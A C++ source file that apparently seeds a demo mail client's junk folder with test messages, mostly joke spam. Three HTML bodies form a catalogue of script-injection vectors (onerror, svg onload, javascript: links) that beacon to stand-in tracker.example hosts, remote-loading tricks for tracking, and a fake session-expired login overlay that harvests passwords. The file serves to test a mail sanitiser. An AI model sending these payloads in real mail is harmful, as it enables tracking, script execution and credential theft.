#include "demo/MailText.h"
#include "demo/Notice.h"
#include "demo/content/DemoThemes.h"

// Mail that nobody asked for. The hostile bodies try each way to run something or to call home; all of their hosts end
// in tracker.example, so that a single request to one of them shows a hole.

namespace {
struct JunkLetter {
    DemoPerson from;
    When when;
    std::string subject, html;
    std::string flags = "S";
    std::string folder = DemoFolder::junk;
};

constexpr const char *scripts = R"html(<html><head><script src="https://js.tracker.example/a.js"></script>
<script>document.title = 'owned'; fetch('https://beacon.tracker.example/inline');</script></head>
<body onload="fetch('https://beacon.tracker.example/onload')">
<p>Your mailbox is full. <a href="javascript:fetch('https://beacon.tracker.example/link')">Empty it now</a></p>
<img src="x" onerror="fetch('https://beacon.tracker.example/onerror')">
<svg onload="fetch('https://beacon.tracker.example/svg')"><script>fetch('https://beacon.tracker.example/svgscript')</script></svg>
<a href="data:text/html,<script>fetch('https://beacon.tracker.example/data')</script>">Details</a>
<details open ontoggle="fetch('https://beacon.tracker.example/toggle')"><summary>More</summary></details>
<input autofocus onfocus="fetch('https://beacon.tracker.example/focus')">
</body></html>
)html";

constexpr const char *remoteLoads = R"html(<html><head>
<meta http-equiv="refresh" content="0;url=https://refresh.tracker.example/">
<base href="https://base.tracker.example/">
<link rel="stylesheet" href="https://css.tracker.example/style.css">
<link rel="preconnect" href="https://preconnect.tracker.example"><link rel="dns-prefetch" href="//dns.tracker.example">
<link rel="prefetch" href="https://prefetch.tracker.example/next"><link rel="icon" href="https://icon.tracker.example/i.ico">
<style>@import "https://import.tracker.example/i.css"; @import url(//import2.tracker.example/i.css);
@font-face { font-family: T; src: url(https://font.tracker.example/t.woff2); } p { font-family: T; }
.b { background: url('https://background.tracker.example/b.png'); cursor: url(https://cursor.tracker.example/c.cur), auto; }
li { list-style-image: url(https://list.tracker.example/l.png); } p::before { content: url(https://content.tracker.example/c.png); }
</style></head><body background="https://body.tracker.example/b.gif">
<p class="b">A parcel is waiting for you at the customs office.</p><ul><li>Pay 1.99</li></ul>
<iframe src="https://frame.tracker.example/"></iframe><object data="https://object.tracker.example/o"></object>
<embed src="https://embed.tracker.example/e"><video src="https://video.tracker.example/v" poster="https://poster.tracker.example/p.png" autoplay></video>
<audio src="https://audio.tracker.example/a" autoplay></audio><picture><source srcset="https://source.tracker.example/s.webp"></picture>
<img srcset="https://srcset.tracker.example/1.png 1x, https://srcset.tracker.example/2.png 2x"><IMG SRC="https://image.tracker.example/i.png">
<img src="https://pixel.tracker.example/o.gif" width="1" height="1" alt="">
<table background="https://table.tracker.example/t.png"><tr><td style="background-image:url(https://cell.tracker.example/c.png)">Customs</td></tr></table>
<svg><image href="https://svgimage.tracker.example/s.png"/><use href="https://use.tracker.example/u.svg#a"/></svg>
<form action="https://form.tracker.example/take" method="post"><input name="password" type="password"><button>Sign in</button></form>
<a href="https://click.tracker.example/c" ping="https://ping.tracker.example/p">Track your parcel</a>
</body></html>
)html";

constexpr const char *disguise =
    R"html(<html><body style="position:fixed;top:0;left:0;width:200%;z-index:99999;background:#fff">
<div style="position:fixed;inset:0;background:#fff;z-index:2147483647">
<h2>Your session has ended</h2><p>Please sign in to your mailbox again.</p>
<form action="https://form.tracker.example/login"><input name="user" value="dana@corvanite.example"><br>
<input name="password" type="password"><br><button>Sign in</button></form></div>
<a href="https://login.tracker.example/" style="color:#00f">https://mail.corvanite.example/login</a>
<p style="font-size:0">harmless words for the filter, harbour, tide, soup</p></body></html>
)html";

std::string shout(const std::string &color, const std::string &heading, const std::string &text) {
    return "<html><body><center><table width=\"600\" bgcolor=\"" + color +
           "\"><tr><td style=\"padding:30px;color:#fff;font:bold 30px "
           "Impact,sans-serif\" align=\"center\">" +
           heading + "</td></tr><tr><td bgcolor=\"#fff\" style=\"padding:20px;font:16px Arial\">" + text +
           "<br><br><a href=\"https://go.tracker.example/\">CLICK HERE</a></td></tr></table>"
           "<img src=\"https://pixel.tracker.example/j.gif\" width=\"1\" height=\"1\"></center></body></html>\n";
}

std::vector<JunkLetter> letters() {
    return {
        {{"Mailbox Support", "support@mail-quota.example", 0},
         daysAgo(1, 2, 11),
         "Your mailbox is 99% full",
         scripts,
         ""},
        {{"Customs Parcel Desk", "desk@customs-parcel.example", 0},
         daysAgo(1, 22, 40),
         "Parcel held: 1.99 due",
         remoteLoads,
         ""},
        {{"dana@corvanite.example", "admin@session-check.example", 0},
         daysAgo(2, 3, 33),
         "Session expired for dana@corvanite.example",
         disguise},
        {{"GOLDEN WHALE CASINO", "win@goldenwhale.example", 0},
         daysAgo(3, 1, 1),
         "🎰🎰 DANA, 200 FREE SPINS 🎰🎰",
         shout("#b00020", "YOU HAVE BEEN CHOSEN", "Two hundred spins, no questions, some answers.")},
        {{"Dr. Prosper Lumley", "prosper@lumley-estate.example", 0},
         daysAgo(4, 4, 20),
         "Confidential: the estate of a late sea captain",
         shout("#2a4d2a", "DEAR BENEFICIARY", "A late captain of your name has left eleven million and a parrot.")},
        {{"Ship Shape Pills", "rx@shipshape.example", 0},
         daysAgo(5, 5, 5),
         "D0ct0rs h4te this s1mple seaweed",
         shout("#0a6", "LOSE THE ANCHOR", "Ten kilos in ten days, or your kelp back.")},
        {{"SEO Navigator", "rank@seo-navigator.example", 330},
         daysAgo(7, 6, 50),
         "I visited your website corvanite.example",
         shout("#444", "Page one guaranteed", "I found 147 errors on your tide tables.")},
        {{"Coin Harbour", "vip@coinharbour.example", 0},
         daysAgo(9, 23, 59),
         "Last hours: your wallet doubles at midnight",
         shout("#f7931a", "MIDNIGHT", "Send one, receive two. Send none, receive this again.")},
        {{"Лотерея Удача", "info@udacha.example", 180},
         daysAgo(11, 2, 0),
         "Вы выиграли главный приз!",
         shout("#7b1fa2", "ПОЗДРАВЛЯЕМ", "Ваш приз ждёт вас уже третий год.")},
        {{"Invoice Department", "billing@invoice-dept.example", 0},
         daysAgo(13, 8, 8),
         "Invoice 000000 overdue FINAL NOTICE",
         shout("#c00", "FINAL NOTICE", "You owe us for nothing. Open the attachment that we forgot.")},
        {{"Replica Sextants", "deals@replicasextants.example", 480},
         daysAgo(17, 0, 42),
         "Luxury sextants 90% off",
         shout("#1a237e", "ALMOST BRASS", "Nobody will know, except at sea.")},
        {{"Lonely Lighthouse", "keeper@lonely-lighthouse.example", 0},
         daysAgo(20, 3, 14),
         "A keeper near you wants to talk",
         shout("#ad1457", "HELLO SAILOR", "Three keepers within five miles of you are awake.")},
        {{"Account Security", "alert@harboursavings-secure.example", 0},
         daysAgo(53, 4, 4),
         "Unusual sign-in to your savings account",
         std::string(scripts) + remoteLoads,
         "S",
         DemoFolder::inbox},
    };
}
} // namespace

void addJunkMail(Mailbag &bag) {
    for (const JunkLetter &letter : letters())
        addNotice(bag, {letter.from, letter.when, letter.subject, htmlPart(letter.html), letter.folder, letter.flags});
}
